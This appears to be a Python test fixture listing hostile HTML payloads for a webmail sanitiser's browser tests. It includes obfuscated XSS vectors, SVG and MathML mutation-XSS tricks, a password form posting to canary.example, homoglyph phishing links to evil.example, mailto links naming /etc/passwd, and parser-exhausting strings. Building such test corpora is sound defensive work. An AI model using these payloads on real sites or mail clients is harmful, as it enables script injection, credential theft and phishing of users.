# ruff: noqa: E501 (a payload reads best in one line)
"""HTML that attacks the reader of a message, by class (design of the mail frame, payload classes).

Collected from published breaks of webmail sanitisers (Roundcube, SnappyMail, Zimbra, Proton,
ammonia advisories) and written anew. A payload that works calls `alert`, posts 'pwned' to its
parent, or loads something from canary.example, so that a browser test can notice it.
Classes 36, 38 and 39 (calendars, TNEF, the image proxy) belong to other parts of the system.
"""

from __future__ import annotations

from dataclasses import dataclass

from tests.support.hostile_css import BY_CLASS as CSS_BY_CLASS
from tests.support.hostile_css import RUN, C

# Never a real image, so that onerror would run.
PIXEL = "data:image/png;base64,iVBORw0KGgo="
SVG_DATA = "data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+"


@dataclass(frozen=True, slots=True)
class HostileHtml:
    name: str
    klass: int
    html: str


_HANDLERS = (
    "onload onerror onclick onfocus onblur onmouseover onmouseenter ontoggle onanimationstart "
    "onanimationend ontransitionend onpointerrawupdate onscroll onwheel onbeforetoggle "
    "oncontentvisibilityautostatechange onpageshow onhashchange onbegin onend onrepeat "
    "onauxclick onbeforeinput onsearch onsecuritypolicyviolation onwebkitanimationstart"
).split()
_ELEMENTS = "div p a img table td details body font blockquote center summary marquee b".split()

_SCRIPTED_URLS = (
    f"javascript:{RUN}",
    f"JaVaScRiPt:{RUN}",
    f" javascript:{RUN}",
    f"\x01javascript:{RUN}",
    f"java\tscript:{RUN}",
    f"java\nscript:{RUN}",
    f"java&#x09;script:{RUN}",
    f"&#106;&#97;&#118;&#97;script:{RUN}",
    f"javascript&colon;{RUN}",
    f"javascript&#0000058;{RUN}",
    f"java\u200bscript:{RUN}",
    f"\u202ejavascript:{RUN}",
    f"\ufeffjavascript:{RUN}",
    f"javascript://%0a{RUN}",
    f"vbscript:{RUN}",
    f"livescript:{RUN}",
    f"view-source:javascript:{RUN}",
    f"jar:{C}!/x",
    f"feed:javascript:{RUN}",
    "about:blank#x",
    "file:///etc/passwd",
    "ms-msdt:/id",
    "search-ms:query=x",
    "intent://x#Intent;end",
    "chrome://settings",
)

_BY_CLASS: dict[int, list[str]] = {
    1: [
        f"<script>{RUN}</script>",
        f"<ScRiPt>{RUN}</sCrIpT>",
        f"<script/x>{RUN}</script/>",
        f"<script\x0c>{RUN}</script\x0c>",
        f"<scr\x00ipt>{RUN}</scr\x00ipt>",
        f"<script src={C}/x.js></script>",
        "<script src=//canary.example/x.js>",
        f"<scr<script>ipt>{RUN}</scr</script>ipt>",
        f"<<script>{RUN}//<</script>",
        f"<script type=module>{RUN}</script>",
        f"<script\n>{RUN}</script\t\n bar>",
        f"<scr<!-- -->ipt>{RUN}</scr<!-- -->ipt>",
        f"</script><script>{RUN}</script>",
        f"</casilla-mail></body></html><script>{RUN}</script>",
        f"<script>{RUN}",
        f"<noscript><p title='</noscript><script>{RUN}</script>'>",
        f"<table><script>{RUN}</script><tr><td>x</table>",
        "<script language=vbscript>msgbox 1</script>",
        f"<script xlink:href={C}/y.js></script>",
    ],
    2: [f'<{tag} {handler}="{RUN}">x</{tag}>' for tag in _ELEMENTS for handler in _HANDLERS[:6]]
    + [f"<p style='animation:x 1s' {handler}='{RUN}'>x</p>" for handler in _HANDLERS]
    + [
        f"<img src=x onerror={RUN}>",
        f"<img/src=x/onerror={RUN}>",
        f"<img src=x\x0conerror={RUN}>",
        f'<img src="x"onerror="{RUN}">',
        f"<img src=x OnErRoR={RUN}>",
        f"<img src=x `onerror={RUN}>",
        f'<img title="x" \'" onerror="{RUN}" src=x>',
        f"<details open ontoggle={RUN}>x</details>",
        f"<body onload={RUN}>",
        f"<a title='\" onmouseover={RUN} x=\"'>x</a>",
        f"<img alt='`onerror={RUN}' src=x>",
        f"<img src=x on\x00error={RUN}>",
        f"<div xml:onload={RUN} onload&#61;{RUN}>x</div>",
    ],
    3: [f'<a href="{url}">x</a>' for url in _SCRIPTED_URLS]
    + [f'<img src="{url}">' for url in _SCRIPTED_URLS]
    + [f"<a href=`javascript:{RUN}`>x</a>", f"<a href='\x14javascript:{RUN}'>x</a>"],
    4: [
        '<a href="data:text/html,<script>alert(1)</script>">x</a>',
        '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
        '<a href="data:application/xhtml+xml,<x/>">x</a>',
        '<a href="DATA:text/html,x">x</a>',
        f'<a href="{SVG_DATA}">x</a>',
        f'<img src="{SVG_DATA}">',
        '<img src="data:text/html,<script>alert(1)</script>">',
        '<img src="data:image/svg+xml;utf8,<svg onload=alert(1)>">',
        '<img src="data:image/png,<svg onload=alert(1)>">',
        '<img src="data:image/png;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+">',
        '<img src="data:image/png;charset=x;base64,iVBORw0KGgo=">',
        '<img src="data:,x"><img src="data:image/x-icon;base64,AAAB">',
        f'<img src="data:image/png;base64,iVBORw0KGgo{"A" * 300_000}">',
    ],
    5: [
        f'<{tag} {attribute}="{scheme}{C}/0-0-0">x'
        for tag, attribute in (("a", "href"), ("img", "src"), ("iframe", "src"))
        for scheme in ("blob:", "filesystem:", "blob:null/", "BLOB:")
    ],
    6: [
        f'<img usemap="#m" src="{PIXEL}"><map name=m><area shape=default href="javascript:{RUN}"></map>',
        f'<map name=m><area shape=rect coords=0,0,999,999 href="{C}/x" ping="{C}/p"></map>',
        f'<img ismap src="{PIXEL}"><area href="javascript:{RUN}">',
    ],
    7: [
        f"<svg onload={RUN}>",
        f"<svg><script>{RUN}</script></svg>",
        f"<svg><script href='{C}/x.js'/></svg>",
        f"<svg><use href='{SVG_DATA}#x'/></svg>",
        f"<svg><use xlink:href='{C}/x.svg#x'/></svg>",
        f"<svg><foreignObject><iframe srcdoc='<script>{RUN}</script>'></foreignObject></svg>",
        f"<svg><a xlink:href='javascript:{RUN}'><text y=20>x</text></a></svg>",
        f"<svg><image href='{C}/x.png'/><image xlink:href='{C}/y.png'/></svg>",
        f"<svg/onload={RUN}//",
        f"<svg><style>@import '{C}/x.css';</style></svg>",
        f"<svg><style><img src=x onerror={RUN}></style></svg>",
        f"<svg><title><img src=x onerror={RUN}></title></svg>",
        f"<svg><desc><img src=x onerror={RUN}></desc></svg>",
        f"<SVG ONLOAD={RUN}>",
        f"<svg xmlns:x='http://www.w3.org/1999/xlink'><a x:href='javascript:{RUN}'>x</a></svg>",
    ],
    8: [
        f"<svg><a><animate attributeName={name} values=javascript:{RUN} /><text>x</text></a></svg>"
        for name in ("href", "xlink:href", "'href '", "style", "HREF")
    ]
    + [
        f"<svg><a><set attributeName=href to=javascript:{RUN} /></a></svg>",
        f"<svg><a><animate attributeName=href by=javascript:{RUN} /></a></svg>",
        f"<svg><animate onbegin={RUN} attributeName=x dur=1s></svg>",
        f"<svg><image><animate attributeName=href values='{C}/x'/></image></svg>",
        f"<animate attributeName=style to='background:url({C}/x)'>",
        f"<svg><discard onbegin={RUN}></svg>",
    ],
    9: [
        f"<svg><filter id=f><feImage href='{C}/x'/></filter></svg>",
        f"<svg><rect fill='url({C}/x#a)' filter='url({C}/y#b)'/></svg>",
        f"<p style='filter:url({C}/x#b)'>x</p>",
        f"<p style='background:url({C}/x'>x</p>",
        f"<svg><rect mask='url({C}/x' style='fill:url({C}/y'/></svg>",
        f"<table background='{C}/x'><tr background={C}/y><td background={C}/z>x</table>",
        f"<body background='{C}/x'>x</body>",
    ],
    10: [
        f"<math href='javascript:{RUN}'>x</math>",
        f"<math><maction actiontype=statusline xlink:href='javascript:{RUN}'>x</maction></math>",
        f"<math><annotation-xml encoding=text/html><script>{RUN}</script></annotation-xml></math>",
        f"<math><mtext><table><mglyph><style><img src=x onerror={RUN}></style></table></mtext></math>",
        f"<math><mi><img src=x onerror={RUN}></mi></math>",
        f"<math><semantics><annotation-xml><svg onload={RUN}></annotation-xml></semantics></math>",
        f"<math xmlns=http://www.w3.org/1998/Math/MathML><a href='javascript:{RUN}'>x</a></math>",
    ],
    11: [
        f'<noscript><p title="</noscript><img src=x onerror={RUN}>"></noscript>',
        f"<template><img src=x onerror={RUN}></template>",
        f'<xmp><p title="</xmp><img src=x onerror={RUN}>"></xmp>',
        f'<textarea><p title="</textarea><img src=x onerror={RUN}>"></textarea>',
        f'<title><p title="</title><img src=x onerror={RUN}>"></title>',
        f'<svg></p><style><a id="</style><img src=x onerror={RUN}>"></svg>',
        f"<svg><style><!--</style><img src=x onerror={RUN}>--></style></svg>",
        f'<math><mtext><mglyph><svg><mtext><style><a title="</style><img src=x onerror={RUN}>">',
        f"<form><math><mtext></form><form><mglyph><style></math><img src=x onerror={RUN}>",
        f"<table><a href='{C}'><td><a><img src=x onerror={RUN}></table>",
        f"<p><table><p><svg><title><style><img title='</style><img src=x onerror={RUN}>'>",
        f'<iframe><p title="</iframe><img src=x onerror={RUN}>"></iframe>',
        f'<noembed><p title="</noembed><img src=x onerror={RUN}>"></noembed>',
        f'<noframes><p title="</noframes><img src=x onerror={RUN}>"></noframes>',
        f'<plaintext><p title="</plaintext><img src=x onerror={RUN}>">',
        f"<select><template><style></select><img src=x onerror={RUN}></style></template>",
        f"<div><b><p title='<img src=x onerror={RUN}>'></b><i></p></div>",
        f"<listing>&lt;img src=x onerror={RUN}&gt;</listing>",
        f"<pre>\n\n&lt;img src=x onerror={RUN}&gt;</pre>",
        f'<a title="&lt;/a>&lt;img src=x onerror={RUN}>">x</a>',
        f"<option><style></option></select><img src=x onerror={RUN}></style>",
        f"<frameset><frame src='javascript:{RUN}'></frameset>",
        f"<image src=x onerror={RUN}>",
        f"&lt;script&gt;{RUN}&lt;/script&gt;",
        f"&amp;lt;script&amp;gt;{RUN}",
    ],
    12: [
        f"<![CDATA[<script>{RUN}</script>]]>",
        f"<!--><script>{RUN}</script>-->",
        f"<!---><script>{RUN}</script>-->",
        f"<!-- --!><script>{RUN}</script> -->",
        f"<!--[if IE]><script>{RUN}</script><![endif]-->",
        f"<!--[if gte mso 9]><img src={C}/x><![endif]-->",
        f"<![if !mso]><img src=x onerror={RUN}><![endif]>",
        f"<?xml version='1.0'?><?xml-stylesheet href='{C}/x.css'?><p>x</p>",
        f"<?import namespace=t implementation='#default#time2'><t:set onbegin={RUN}>",
        f"<!DOCTYPE html [<!ENTITY x SYSTEM '{C}/x'>]><p>&x;</p>",
        f"</ <script>{RUN}</script>>",
        f"<!ELEMENT x><script>{RUN}</script>",
        f"<svg><![CDATA[</svg><img src=x onerror={RUN}>]]></svg>",
        f"<% <script>{RUN}</script> %>",
        f'<!--<img title="--><img src=x onerror={RUN}>">',
    ],
    13: [
        f"<iframe src='javascript:{RUN}'></iframe>",
        f"<iframe srcdoc='<script>{RUN}</script>'></iframe>",
        f"<iframe src={C}/x></iframe>",
        f"<object data='{C}/x'></object>",
        f"<object data='data:text/html,<script>{RUN}</script>'></object>",
        f"<embed src='{C}/x'>",
        f"<embed src='javascript:{RUN}' code=x>",
        f"<applet code=x archive={C}/x></applet>",
        f"<portal src='{C}/x'></portal>",
        f"<frameset><frame src={C}/x></frameset>",
        f"<fencedframe></fencedframe><webview src={C}></webview>",
        f"<object type=text/x-scriptlet data={C}/x><param name=movie value={C}/y></object>",
        f"<video src={C}/x poster={C}/y autoplay onerror={RUN}><source src={C}/z></video>",
        f"<audio src={C}/x autoplay onerror={RUN}></audio>",
        f"<track src={C}/x><source src={C}/y srcset={C}/z>",
        f"<bgsound src={C}/x><layer src={C}/y><ilayer src={C}/z>",
    ],
    14: [
        f"<form action={C}/x><input name=password type=password><button>go</button></form>",
        f"<form id=f action='javascript:{RUN}'></form><button form=f>x</button>",
        f"<button formaction='javascript:{RUN}'>x</button>",
        f"<input type=image src={C}/x formaction={C}/y>",
        f"<input autofocus onfocus={RUN}>",
        f"<isindex action='javascript:{RUN}' prompt=x>",
        f"<textarea autofocus onfocus={RUN}></textarea>",
        f"<select autofocus onfocus={RUN}><option>x</select>",
        f"<keygen autofocus onfocus={RUN}>",
        f"<form><input type=submit formaction='{C}/x' formtarget=_top></form>",
        "<fieldset><legend>Sign in</legend><label>x<input></label></fieldset>",
        f"<form action={C}/auto><input></form><meter value=1><output>x</output>",
    ],
    15: [
        f"<base href='{C}/'><a href=x>x</a><img src=y>",
        "<base target=_top><a href='https://example.org'>x</a>",
        f"<head><base href='javascript:{RUN}//'></head><a href='x'>x</a>",
        f"<BASE HREF={C}/>",
    ],
    16: [
        f"<meta http-equiv=refresh content='0;url={C}/x'>",
        f"<meta http-equiv=refresh content='0;url=javascript:{RUN}'>",
        "<meta http-equiv=refresh content='0;url=data:text/html,x'>",
        "<meta http-equiv=Content-Security-Policy content=\"script-src 'unsafe-inline' *\">",
        f"<meta charset=utf-7>+ADw-script+AD4-{RUN}+ADw-/script+AD4-",
        f"<meta charset=iso-2022-jp><a title='\x1b$B'><b title='\x1b(B'><img src=x onerror={RUN}>'>x</a>",
        f"<meta http-equiv=Set-Cookie content='a=b'><meta http-equiv=Link content='<{C}/x>;rel=preload'>",
        "<meta name=referrer content=unsafe-url>",
        "<meta http-equiv=x-dns-prefetch-control content=on>",
    ],
    17: [
        f"<link rel={rel} href='{C}/x'>"
        for rel in (
            "stylesheet import prefetch preload preconnect dns-prefetch prerender icon manifest "
            "modulepreload alternate pingback"
        ).split()
    ]
    + [f"<link rel=stylesheet href='javascript:{RUN}'>", f"<LINK REL=stylesheet/HREF={C}/x>"],
    18: [
        f"<img srcset='{C}/x 1x'>",
        f"<img src={C}/x><img src='{C}/y' width=1 height=1>",
        f"<img lowsrc={C}/x dynsrc={C}/y longdesc={C}/z>",
        f"<picture><source srcset={C}/x><img src={C}/y></picture>",
        f"<video poster={C}/x></video>",
        f"<table background={C}/x><td background={C}/y>x",
        "<img src=//canary.example/x>",
        "<img src='\\\\canary.example\\x'>",
        "<img src=/logout><a href=/logout>x</a>",
        "<img src=../../accounts/logout/><a href='?x'>x</a><a href=''>x</a><a href='#x'>x</a>",
        "<img src='http:canary.example/x'><img src='https:/canary.example/y'>",
        f"<img src='\x01{C}/x'><img src='ht\ntp://canary.example/y'>",
        f"<input type=image src={C}/x><img src=ftp://canary.example/x>",
        f"<img imagesrcset='{C}/x' data-src='{C}/y' crossorigin src>",
        f"<q cite={C}/x>x</q><ins cite={C}/y>x</ins><blockquote cite={C}/z>x</blockquote>",
    ],
    26: [
        "<img name=body><img name=documentElement><img name=querySelector>",
        "<form name=parent><input name=postMessage></form>",
        "<a id=parent name=parent href='https://example.org'>x</a>",
        "<a id=x><a id=x name=y href='https://example.org'>x</a>",
        "<img id=currentScript name=currentScript><object name=cookie></object>",
        "<p id=casilla name=casilla itemprop=x itemid=y>x</p>",
        "<map name=ResizeObserver></map><iframe name=parent></iframe>",
    ],
    27: [
        f"<div {attribute}>x</div>"
        for attribute in (
            f"hx-get='{C}/x' hx-trigger=load",
            f"data-hx-get='{C}/x' data-hx-trigger=load",
            f"hx-on:load='{RUN}'",
            f"hx-on--load='{RUN}'",
            "hx-vals='js:{a:alert(1)}'",
            f"x-data x-init='{RUN}'",
            f"x-html='{RUN}' :class=x @click='{RUN}' v-on:click=x ng-app ng-click=x",
            "data-submit-on-change data-controller=x aria-label=x aria-hidden=true role=dialog",
            "class='casilla-text casilla-quote CASILLA-link-differs'",
            "class='&#99;asilla-link-differs toast dialog htmx-request'",
            "class='x\" onload=\"alert(1)'",
            "class='\u017fcasilla-x \u00a0casilla-y'",
            "slot=x part=y exportparts=z is=casilla-mail itemscope",
        )
    ]
    + [
        "<casilla-mail>x</casilla-mail><details class=casilla-quote open><summary>x</summary></details>"
    ],
    28: [
        "<div contenteditable=true>x</div>",
        "<div popover id=p>x</div><button popovertarget=p>x</button>",
        "<dialog open>x<form method=dialog></form></dialog>",
        "<a accesskey=s href='https://example.org'>x</a>",
        "<p tabindex=1 autofocus draggable=true inert hidden=until-found>x</p>",
        "<div contextmenu=x spellcheck inputmode=x enterkeyhint=x nonce=x>x</div>",
        f"<menu type=context><menuitem onclick={RUN}></menu>",
        "<p anchor=x interestfor=y command=show-modal commandfor=z>x</p>",
    ],
    29: [
        "<a href='https://example.org' target=_top>x</a>",
        "<a href='https://example.org' target=_parent rel=opener>x</a>",
        "<a href='https://example.org' target=_self>x</a>",
        f"<a href='https://example.org' ping='{C}/p' download=x.exe>x</a>",
        f"<a href='https://example.org' attributionsrc='{C}/p' referrerpolicy=unsafe-url>x</a>",
        "<a href='https://example.org' rel='opener prefetch' hreflang=x type=text/html>x</a>",
    ],
    30: [
        "<a href='https://www.paypal.com@evil.example/'>www.paypal.com</a>",
        "<a href='https://evil.example/'>https://bank.example/login</a>",
        "<a href='https://evil.example\\@bank.example/'>bank.example</a>",
        "<a href='http:\\\\evil.example'>bank.example</a>",
        "<a href='https:evil.example'>x</a><a href='https:/evil.example'>x</a>",
        "<a href='https://xn--pple-43d.com/'>apple.com</a>",
        "<a href='https://\u0430pple.com/'>x</a>",
        "<a href='https://bank.example\u202e/moc.live'>x</a>",
        "<a href='https://ba\u200bnk.example/'>ba\u200bnk.example</a>",
        "<a href='https://[::ffff:127.0.0.1]/'>x</a><a href='https://[x'>x</a>",
        "<bdo dir=rtl>gpj.exe</bdo>\u202egpj.exe\u2066x",
        "<a href='https://evil.example/'><b>https://bank</b>.example</a>",
        "<a href='mailto:x@y.example?subject=a&attach=/etc/passwd&bcc=z@y.example'>x</a>",
        "<a href='mailto:a@b.example?body=x%0d%0aBcc:%20c@d.example'>x</a>",
        "<a href='tel:*%2306%23'>x</a><a href='sms:1?body=x'>x</a>",
    ],
    31: [
        "<div style='display:none'>HIDDENWORD</div>shown",
        "<div style='font-size:1px;color:#fff'>HIDDENWORD</div>shown",
        "<div style='font-size:0'>HIDDENWORD</div>shown",
        "<div style='max-height:0px;overflow:hidden'>HIDDENWORD</div>shown",
        "<div style='visibility:hidden'>HIDDENWORD</div>shown",
        "<div style='opacity:0.01'>HIDDENWORD</div>shown",
        "<div style='mso-hide:all'>HIDDENWORD</div>shown",
        "<div hidden>HIDDENWORD</div>shown",
        "<div style='DISPLAY : NONE!important'><div>HIDDENWORD</div>HIDDENWORD</div>shown",
        "<span style='display:none'>HIDDENWORD<span>HIDDENWORD</span></span>shown",
    ],
    32: [
        "<p " + " ".join(f"a{i}=1" for i in range(50_000)) + f" onclick={RUN}>x</p>",
        "<div>" * 20_000 + "x",
        "&amp;" * 100_000,
        "<style>" + "p{color:red}" * 170_000 + "</style>x",
        "<p>" + "".join(f"<font color=#{i:06x}>" for i in range(300)) + "x</p>" + "<p>x" * 3000,
        "<a " * 300_000,
        "<" * 500_000,
        "<!--" * 300_000,
        "<style" * 200_000,
        "<table><tr><td>" * 2000,
        "<p style='width:calc(" + "(" * 5000 + "'>x",
        "<style>" + "{[(" * 40_000 + "</style>x",
        "x" * 2_100_000,
        "<b><i><u>" * 130 + "<p>x</b>" * 2000,
    ],
    33: [
        "<img src='cid:svg@x'><img src='cid:html@x'><a href='cid:html@x'>x</a>",
        "<iframe src='cid:html@x'></iframe><object data='cid:svg@x'></object>",
        "<a href='mhtml:http://canary.example/x!x'>x</a><img src='mid:x/y'>",
    ],
    34: [
        '<img src="data:image/gif;base64,R0lGODlhPHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">',
        '<img src="data:image/jpeg;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">',
        '<img src="data:image/webp;base64,AAAA">',
        f'<img src="data:image/gif;base64,R0lGODlh" onload="{RUN}">',
    ],
    35: [
        "<img src='cid:\"><script>alert(1)</script>'>",
        f"<img src='cid:a%22%20onerror=%22{RUN}'>",
        "<img src='cid:casilla-part-1'><img src='cid:casilla-part-9.9'>",
        '<p title=\'src="cid:casilla-part-1"\'>src="cid:casilla-part-1" {{x}} {% url %}</p>',
        '<p>&lt;img src="cid:casilla-part-1"&gt;</p>',
        "<img src='CID:'><img src='cid:\x00'><img src='cid:../../x'>",
        "<img alt='x\" src=\"cid:casilla-part-1'>",
    ],
    37: ["<blockquote type=cite>" * 390 + "x", "<div class=gmail_quote>x" * 390],
    40: [
        "[[linkref:1]] ##str_replacement_0## <a href='https://a.example/\"onclick=\"alert(1)'>x</a>",
        'https://a.example/"onmouseover="alert(1) &lt;https://a.example/&gt;',
        f"<a href='https://a.example/&quot;&gt;&lt;img src=x onerror={RUN}&gt;'>x</a>",
    ],
    41: [
        "<script>parent.postMessage({kind:'key',key:'#'},'*')</script>",
        "<iframe srcdoc=\"<script>top.postMessage({kind:'size',height:1,width:1},'*')</script>\"></iframe>",
        "<a href=\"javascript:parent.postMessage('pwned','*')\">x</a>",
    ],
    42: [
        "<img src='cid:image@other-message'><img src='cid:svg@x'>",
        "<img src='cid:&lt;logo@x&gt;'><img src='cid:logo@x/../2'>",
    ],
    43: [
        "<img src='/u/forged:signature/'><img src='https://mail.example/u/stolen/'>",
        "<a href='/u/forged/'>x</a>",
    ],
}

HOSTILE: list[HostileHtml] = [
    HostileHtml(f"{klass:02d}-{number:03d}", klass, html)
    for klass, group in sorted((_BY_CLASS | CSS_BY_CLASS).items())
    for number, html in enumerate(group)
]

# Plain text that tries to become markup by way of links (class 40).
HOSTILE_TEXT: list[str] = [
    '[[linkref:0]] "onmouseover="alert(1)',
    'http://a.example/"onmouseover="alert(1)',
    "http://a.example/<script>alert(1)</script>",
    "<http://a.example/><img src=x onerror=alert(1)>",
    "http://a.example/'><img src=x onerror=alert(1)>",
    "http://a.example/&quot;onclick=alert(1)",
    "javascript:alert(1) JAVASCRIPT://a.example/%0aalert(1)",
    "www.a.example/\u202egpj.exe http://\u200bevil.example",
    "a@b.example?x=<script>alert(1)</script>",
    "##str_replacement_0## http://a.example/##str_replacement_1##",
    "mailto:a@b.example' onclick='alert(1)",
    "> <blockquote><script>alert(1)</script>",
    ">" * 5000 + "x",
    "http://" + "(" * 3000 + ")" * 3000,
    "\x00<\x00script>alert(1)</script>",
    "www." * 20_000,
    "On a wrote:\n\n> </details><script>alert(1)</script>",
    "http://a.example/?a=1&lt=2&amp;b=&#x3c;script&#x3e;",
]
